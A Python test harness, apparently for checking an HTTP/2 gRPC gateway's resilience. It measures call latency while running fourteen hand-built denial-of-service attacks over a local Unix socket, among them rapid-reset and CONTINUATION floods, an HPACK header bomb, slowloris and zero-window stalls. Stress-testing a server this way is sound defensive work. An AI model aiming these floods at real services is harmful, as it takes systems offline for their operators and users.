#!/usr/bin/env python3
"""Callers that mean harm, and one that measures what others notice of them: HTTP/2 by hand, frame by frame.

    hostile.py measure SOCKET PATH SECONDS     calls PATH again and again; prints the seconds that each call took, as JSON
    hostile.py ATTACK SOCKET PATH SECONDS      harms as it can; prints what it saw, as JSON

A program of its own, so that it may run as another user and does not share an interpreter with what measures.
"""

from __future__ import annotations

import contextlib
import json
import os
import socket
import struct
import sys
import time
from typing import Any, Callable

import hpack

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 1, 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
INITIAL_WINDOW_SIZE = 4

Seen = dict[str, Any]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """A header that enters no table."""
    return b"\0" + _integer(len(name), 7) + name + _integer(len(value), 7) + value


def _integer(value: int, bits: int) -> bytes:
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([value])
    out = bytearray([limit])
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out) + bytes([value])


def request_block(path: str, *more: tuple[bytes, bytes]) -> bytes:
    fields = [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path.encode()),
        (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
        *more,
    ]
    return b"".join(literal(*field) for field in fields)


def message(payload: bytes) -> bytes:
    return b"\0" + struct.pack(">I", len(payload)) + payload


class Peer:
    """A connection that has said its preface and nothing else that it was not told to say."""

    def __init__(self, path: str, settings: bytes = b"", greets: bool = True) -> None:
        self.socket = socket.socket(socket.AF_UNIX)
        self.socket.connect(path)  # waits for room in the backlog, which it would not with a timeout
        self.socket.settimeout(10)
        self._buffer = b""
        if greets:
            self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def __enter__(self) -> Peer:
        return self

    def __exit__(self, *_: object) -> None:
        self.socket.close()

    def send(self, data: bytes) -> None:
        self.socket.sendall(data)

    def _take(self, size: int) -> bytes:
        while len(self._buffer) < size:
            more = self.socket.recv(65536)
            if not more:
                raise ConnectionResetError("closed")
            self._buffer += more
        taken, self._buffer = self._buffer[:size], self._buffer[size:]
        return taken

    def read(self) -> tuple[int, int, int, bytes]:
        """The next frame: kind, flags, stream, payload."""
        head = self._take(9)
        payload = self._take(int.from_bytes(head[:3], "big"))
        return head[3], head[4], int.from_bytes(head[5:], "big"), payload

    def drain(self) -> None:
        """Reads what is there."""
        self.socket.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            while self.socket.recv(65536):
                pass
        self.socket.settimeout(10)

    def wait_closed(self, within: float) -> bool:
        """Whether the other side hangs up in time."""
        self.socket.settimeout(within)
        try:
            while self.socket.recv(65536):
                pass
        except TimeoutError:
            return False
        except OSError:
            pass
        return True


# ---- The one that measures ----


def measure(path: str, method: str, seconds: float) -> list[float]:
    taken = []
    decoder = hpack.Decoder()
    block = request_block(method)
    body = message(b"x" * 16)
    end = time.monotonic() + seconds
    with Peer(path) as peer:
        stream = 1
        while (began := time.perf_counter()) and time.monotonic() < end:
            peer.send(frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, body))
            status = None
            while True:
                kind, flags, of, payload = peer.read()
                if kind == SETTINGS and not flags & ACK:
                    peer.send(frame(SETTINGS, ACK, 0))
                elif kind == HEADERS:
                    status = dict(decoder.decode(payload)).get("grpc-status", status)
                elif kind == DATA:
                    peer.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", len(payload))))
                if of == stream and flags & END_STREAM and kind in (HEADERS, DATA):
                    break
            taken.append(time.perf_counter() - began)
            assert status == "0", f"the call ended with {status}"
            stream += 2
            time.sleep(0.001)
    return taken


# ---- Those that mean harm ----


def _flood(path: str, seconds: float, frames: Callable[[int], bytes], settings: bytes = b"") -> Seen:
    """`frames(i)` makes the i-th hundred of frames on a connection."""
    end = time.monotonic() + seconds
    sent = lost = 0
    while time.monotonic() < end:
        try:
            with Peer(path, settings) as peer:
                for i in range(10**9):
                    if time.monotonic() >= end:
                        break
                    peer.send(frames(i))
                    sent += 100
                    peer.drain()
        except OSError:
            lost += 1
    return {"frames": sent, "lost": lost}


def pings(path: str, method: str, seconds: float) -> Seen:
    return _flood(path, seconds, lambda i: frame(PING, 0, 0, b"12345678") * 100)


def settings(path: str, method: str, seconds: float) -> Seen:
    return _flood(path, seconds, lambda i: frame(SETTINGS, 0, 0) * 100)


def resets(path: str, method: str, seconds: float) -> Seen:
    block = request_block(method)

    def hundred(i: int) -> bytes:
        return b"".join(
            frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            for stream in range(200 * i + 1, 200 * i + 201, 2)
        )

    return _flood(path, seconds, hundred)


def made_resets(path: str, method: str, seconds: float) -> Seen:
    """Streams that the gateway has to reset, for a rule is broken on them."""
    block = request_block(method)

    def hundred(i: int) -> bytes:
        return b"".join(
            frame(HEADERS, END_HEADERS, stream, block) + frame(WINDOW_UPDATE, 0, stream, bytes(4))
            for stream in range(200 * i + 1, 200 * i + 201, 2)
        )

    return _flood(path, seconds, hundred)


def continuations(path: str, method: str, seconds: float) -> Seen:
    def hundred(i: int) -> bytes:
        begin = frame(HEADERS, 0, 1, b"\x83") if i == 0 else b""
        return begin + frame(CONTINUATION, 0, 1, b"\x90") * 100

    return _flood(path, seconds, hundred)


def header_bombs(path: str, method: str, seconds: float) -> Seen:
    bomb = b"\x40\1x" + _integer(3900, 7) + b"x" * 3900 + b"\xbe" * 12_000

    def one(i: int) -> bytes:
        stream = 2 * i + 1
        return frame(HEADERS, END_HEADERS, stream, request_block(method)) + frame(
            HEADERS, END_HEADERS | END_STREAM, stream, bomb
        )

    return _flood(path, seconds, one)


def oversized_headers(path: str, method: str, seconds: float) -> Seen:
    block = request_block(method, (b"x-long", b"m" * 9000))
    return _flood(path, seconds, lambda i: frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, block))


def illegal_headers(path: str, method: str, seconds: float) -> Seen:
    block = request_block(method, (b"x/y", b"\x80\xff"), (b"X-Upper", b"1"), (b"connection", b"close"))
    return _flood(path, seconds, lambda i: frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, block))


def huge_windows(path: str, method: str, seconds: float) -> Seen:
    return _flood(path, seconds, lambda i: frame(WINDOW_UPDATE, 0, 0, b"\x7f\xff\xff\xff"))


def long_prefixes(path: str, method: str, seconds: float) -> Seen:
    """Messages of 4 GiB, of which as much is sent as the gateway has room for."""
    end = time.monotonic() + seconds
    with Peer(path) as peer:
        peer.send(frame(HEADERS, END_HEADERS, 1, request_block(method)))
        peer.send(frame(DATA, 0, 1, b"\0\xff\xff\xff\xff"))
        window, sent = 65535 - 5, 5
        while time.monotonic() < end:
            if window >= 16384:
                peer.send(frame(DATA, 0, 1, bytes(16384)))
                window -= 16384
                sent += 16384
                continue
            peer.socket.settimeout(max(0.01, end - time.monotonic()))
            try:
                kind, _, stream, payload = peer.read()
            except TimeoutError:
                break
            if kind == WINDOW_UPDATE and stream == 1:
                window += int.from_bytes(payload, "big")
    return {"bytes": sent}


def shut_windows(path: str, method: str, seconds: float) -> Seen:
    """Calls whose answers nobody takes in."""
    peers = []
    shut = struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)
    for _ in range(10):
        peer = Peer(path, shut)
        peers.append(peer)
        for stream in range(1, 41, 2):
            peer.send(frame(HEADERS, END_HEADERS, stream, request_block(method)))
            peer.send(frame(DATA, END_STREAM, stream, message(b"x" * 1000)))
    time.sleep(seconds)
    return {"calls": 20 * len(peers)}


def cut_frames(path: str, method: str, seconds: float) -> Seen:
    """Hangs up in the middle of frames."""
    whole = frame(HEADERS, END_HEADERS, 1, request_block(method)) + frame(DATA, END_STREAM, 1, message(b"hello"))
    end = time.monotonic() + seconds
    cuts = 0
    while time.monotonic() < end:
        with contextlib.suppress(OSError), Peer(path) as peer:
            peer.send(whole[: cuts % len(whole)])
            cuts += 1
    return {"connections": cuts}


def slow_loris(path: str, method: str, seconds: float) -> Seen:
    """A byte at a time, on as many connections as one may have."""
    peers = []
    for _ in range(60):
        with contextlib.suppress(OSError):
            peers.append(Peer(path, greets=False))
    whole = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, request_block(method))
    end = time.monotonic() + seconds
    for byte in whole:
        if time.monotonic() > end:
            break
        for peer in peers:
            with contextlib.suppress(OSError):
                peer.send(bytes([byte]))
        time.sleep(seconds / 50)
    return {"connections": len(peers)}


def idle(path: str, method: str, seconds: float) -> Seen:
    """A thousand connections that say nothing. How many the gateway has kept is told by those that it has not closed."""
    peers = [Peer(path, greets=False) for _ in range(1000)]
    time.sleep(seconds)
    kept = 0
    for peer in peers:
        peer.socket.setblocking(False)
        try:
            # Its SETTINGS come first; then comes nothing, or the end.
            while peer.socket.recv(65536):
                pass
        except BlockingIOError:
            kept += 1
        except OSError:
            pass
    return {"connections": len(peers), "kept": kept}


ATTACKS: dict[str, Callable[[str, str, float], Seen]] = {
    attack.__name__: attack
    for attack in (
        slow_loris,
        idle,
        resets,
        made_resets,
        pings,
        settings,
        continuations,
        header_bombs,
        oversized_headers,
        illegal_headers,
        huge_windows,
        long_prefixes,
        shut_windows,
        cut_frames,
    )
}


def main() -> None:
    what, path, method, seconds = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
    if what == "measure":
        print(json.dumps(measure(path, method, seconds)))
    else:
        # Harm comes from whoever has the time: it must not depend on being scheduled first.
        os.nice(5)
        print(json.dumps(ATTACKS[what](path, method, seconds)))


if __name__ == "__main__":
    main()
